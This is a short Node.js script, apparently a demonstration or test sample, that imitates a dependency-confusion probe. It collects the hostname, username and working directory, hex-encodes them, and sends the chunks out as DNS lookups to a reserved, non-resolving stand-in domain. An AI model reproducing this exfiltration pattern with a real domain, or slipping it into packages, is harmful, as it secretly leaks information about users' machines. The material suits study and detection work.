/* eslint-disable */
// Inert imitation of a dependency-confusion probe: host facts are hex-encoded and sent out as
// DNS labels under a fixed domain (a reserved .invalid name that never resolves).
const dns = require('dns');
const os = require('os');

const facts = [os.hostname(), os.userInfo().username, process.cwd()].join('|');
const hex = Buffer.from(facts).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

chunks.forEach((chunk, i) => {
  dns.lookup(`${i}.${chunk}.probe.example.invalid`, () => {});
});
